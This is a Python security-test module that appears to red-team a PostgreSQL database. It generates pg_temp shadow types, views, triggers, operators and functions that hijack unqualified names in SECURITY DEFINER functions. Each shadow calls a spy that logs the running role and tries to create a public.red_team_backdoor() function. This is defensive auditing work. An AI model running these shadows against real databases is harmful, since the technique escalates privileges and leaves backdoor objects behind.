"""pg_temp shadows: objects in the attacker's temporary schema named like the types, relations,
operators and functions a function names without a schema, each of which calls a spy.

PostgreSQL searches pg_temp first for relation and type names unless search_path names it
elsewhere (never for functions or operators unless called as pg_temp.f). A shadow that a
SECURITY DEFINER function (or a function such a function calls) resolves runs the spy as the
function's owner. The spy reports who it ran as in a NOTICE, which no rollback can take back,
and, when it is not the attacker, tries to leave a function in `public` behind.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from psycopg import sql

from tests.reliability.support import Conn
from tests.security.catalog import (
    Function,
    called_names,
    operator_names,
    type_sql,
    unqualified_names,
)

SPY_PREFIX = "red-team-spy|"
BACKDOOR = "public.red_team_backdoor()"


def spy(role: str) -> list[sql.Composable]:
    return [
        sql.SQL(
            "create function pg_temp.red_team_spy(what pg_catalog.text) returns pg_catalog.bool"
            " language plpgsql set search_path = pg_catalog, pg_temp as $spy$"
            " declare stack pg_catalog.text;"
            " begin"
            "  get diagnostics stack = pg_context;"
            "  raise notice 'red-team-spy|%|%|%|%', what, current_user, session_user,"
            "   pg_catalog.replace(stack, E'\\n', ' <- ');"
            "  if current_user <> {role} then"
            "   begin"
            "    execute 'create function public.red_team_backdoor() returns integer"
            " language sql as ''select 1''';"
            "   exception when others then null;"
            "   end;"
            "  end if;"
            "  return true;"
            " end $spy$"
        ).format(role=sql.Literal(role)),
        sql.SQL(
            "create function pg_temp.red_team_spy_trigger() returns trigger language plpgsql"
            " set search_path = pg_catalog, pg_temp as $spy$"
            " begin perform pg_temp.red_team_spy('write ' || tg_table_name); return null; end"
            " $spy$"
        ),
    ]


@dataclass
class ShadowCatalog:
    """What exists to be shadowed, by name: types, relations (with their columns), operators
    and functions of every schema but pg_temp."""

    types: dict[str, str] = field(default_factory=dict)  # name -> qualified real type
    relations: dict[str, list[tuple[str, str]]] = field(default_factory=dict)
    operators: dict[str, list[tuple[str | None, str, str]]] = field(default_factory=dict)
    functions: dict[str, list[tuple[list[str], str]]] = field(default_factory=dict)


_TYPES = sql.SQL(
    "select t.typname, {type} from pg_catalog.pg_type as t"
    " join pg_catalog.pg_namespace as n on n.oid = t.typnamespace"
    " where t.typtype in ('b', 'd', 'e', 'r', 'm') and t.typname !~ '^_'"
    "   and n.nspname !~ '^pg_(temp|toast)'"
    " order by n.nspname <> 'pg_catalog', n.nspname desc"
).format(type=type_sql("n", "t"))
_RELATIONS = sql.SQL(
    "select c.relname, array(select array[a.attname::text, {type}]"
    "  from pg_catalog.pg_attribute as a"
    "  join pg_catalog.pg_type as at on at.oid = a.atttypid"
    "  join pg_catalog.pg_namespace as an on an.oid = at.typnamespace"
    " where a.attrelid = c.oid and a.attnum > 0 and not a.attisdropped order by a.attnum)"
    " from pg_catalog.pg_class as c"
    " join pg_catalog.pg_namespace as n on n.oid = c.relnamespace"
    " where c.relkind in ('r', 'p', 'v', 'm', 'f') and n.nspname !~ '^pg_(temp|toast)'"
    " order by n.nspname <> 'pg_catalog'"
).format(type=type_sql("an", "at"))
_OPERATORS = sql.SQL(
    "select o.oprname, {left}, {right}, {result} from pg_catalog.pg_operator as o"
    " left join pg_catalog.pg_type as lt on lt.oid = o.oprleft"
    " left join pg_catalog.pg_namespace as ln on ln.oid = lt.typnamespace"
    " join pg_catalog.pg_type as rt on rt.oid = o.oprright"
    " join pg_catalog.pg_namespace as rn on rn.oid = rt.typnamespace"
    " join pg_catalog.pg_type as xt on xt.oid = o.oprresult"
    " join pg_catalog.pg_namespace as xn on xn.oid = xt.typnamespace"
    " where rt.typtype <> 'p' and coalesce(lt.typtype, 'b') <> 'p' and xt.typtype <> 'p'"
).format(left=type_sql("ln", "lt"), right=type_sql("rn", "rt"), result=type_sql("xn", "xt"))
_FUNCTIONS = sql.SQL(
    "select p.proname, array(select {arg} from unnest(p.proargtypes) with ordinality as u(t, o)"
    "  join pg_catalog.pg_type as at on at.oid = u.t"
    "  join pg_catalog.pg_namespace as an on an.oid = at.typnamespace order by u.o), {result}"
    " from pg_catalog.pg_proc as p"
    " join pg_catalog.pg_namespace as n on n.oid = p.pronamespace"
    " join pg_catalog.pg_type as xt on xt.oid = p.prorettype"
    " join pg_catalog.pg_namespace as xn on xn.oid = xt.typnamespace"
    " where p.prokind = 'f' and not p.proretset and xt.typtype <> 'p'"
    "   and n.nspname in ('pg_catalog', 'extensions')"
    "   and not exists (select from unnest(p.proargtypes) as u(t)"
    "                    join pg_catalog.pg_type as at on at.oid = u.t where at.typtype = 'p')"
).format(arg=type_sql("an", "at"), result=type_sql("xn", "xt"))


def callers(stack: str) -> str:
    """The functions a spy's call stack passes through, innermost first, spies left out."""
    names = re.findall(r'(?:PL/pgSQL function|SQL function) "?([\w.]+)', stack)
    return " <- ".join(n for n in dict.fromkeys(names) if "red_team" not in n)


def shadow_catalog(conn: Conn) -> ShadowCatalog:
    cat = ShadowCatalog()
    # Where two schemas have a type of the same name, pg_catalog's wins, as it does for an
    # unqualified name.
    for name, real in conn.execute(_TYPES).fetchall():
        cat.types.setdefault(str(name), str(real))
    for name, cols in conn.execute(_RELATIONS).fetchall():
        cat.relations.setdefault(str(name), [(str(a), str(b)) for a, b in cols])
    for name, left, right, result in conn.execute(_OPERATORS).fetchall():
        cat.operators.setdefault(str(name), []).append(
            (None if left is None else str(left), str(right), str(result))
        )
    for name, args, result in conn.execute(_FUNCTIONS).fetchall():
        cat.functions.setdefault(str(name), []).append(([str(a) for a in args], str(result)))
    return cat


@dataclass
class Shadows:
    statements: list[tuple[str, sql.Composed]]  # (what it shadows, DDL)


def shadows_for(function: Function, cat: ShadowCatalog) -> Shadows:
    """Every shadow of a name `function`'s body could resolve."""
    names = unqualified_names(function.body)
    out: list[tuple[str, sql.Composed]] = []
    for name in sorted(names & set(cat.types)):
        out.append(
            (
                f"type {name}",
                sql.SQL("create domain pg_temp.{} as {} check (pg_temp.red_team_spy({}))").format(
                    sql.Identifier(name), sql.SQL(cat.types[name]), sql.Literal(f"type {name}")
                ),
            )
        )
    for name in sorted(names & set(cat.relations) - set(cat.types)):
        columns = cat.relations[name] or [("red_team", "pg_catalog.int4")]
        body = sql.SQL(", ").join(
            sql.SQL("null::{} as {}").format(sql.SQL(t), sql.Identifier(c)) for c, t in columns
        )
        out.append(
            (
                f"relation {name}",
                sql.SQL(
                    "create view pg_temp.{name} as select {body}"
                    " where pg_temp.red_team_spy({label})"
                ).format(
                    name=sql.Identifier(name), body=body, label=sql.Literal(f"relation {name}")
                ),
            )
        )
        out.append(
            (
                f"relation {name} (writes)",
                sql.SQL(
                    "create trigger red_team instead of insert or update or delete on pg_temp.{}"
                    " for each row execute function pg_temp.red_team_spy_trigger()"
                ).format(sql.Identifier(name)),
            )
        )
    for n, op in enumerate(sorted(operator_names(function.body) & set(cat.operators))):
        for k, (left, right, result) in enumerate(cat.operators[op][:12]):
            fname = sql.Identifier(f"red_team_op_{n}_{k}")
            params = sql.SQL(", ").join(sql.SQL(t) for t in ([left] if left else []) + [right])
            out.append(
                (
                    f"operator {op}",
                    sql.SQL(
                        "create function pg_temp.{f}({params}) returns {r} language sql as $op$"
                        " select case when pg_temp.red_team_spy({label}) then null::{r} end $op$;"
                        " create operator pg_temp.{op}"
                        " (function = pg_temp.{f}, {left}rightarg = {right})"
                    ).format(
                        f=fname,
                        params=params,
                        r=sql.SQL(result),
                        label=sql.Literal(f"operator {op}"),
                        op=sql.SQL(op),
                        left=sql.SQL(f"leftarg = {left}, ") if left else sql.SQL(""),
                        right=sql.SQL(right),
                    ),
                )
            )
    for name in sorted(called_names(function.body) & set(cat.functions)):
        for args, result in cat.functions[name][:6]:
            out.append(
                (
                    f"function {name}",
                    sql.SQL(
                        "create function pg_temp.{f}({params}) returns {r} language sql as $fn$"
                        " select case when pg_temp.red_team_spy({label}) then null::{r} end $fn$"
                    ).format(
                        f=sql.Identifier(name),
                        params=sql.SQL(", ").join(sql.SQL(a) for a in args),
                        r=sql.SQL(result),
                        label=sql.Literal(f"function {name}"),
                    ),
                )
            )
    return Shadows(out)
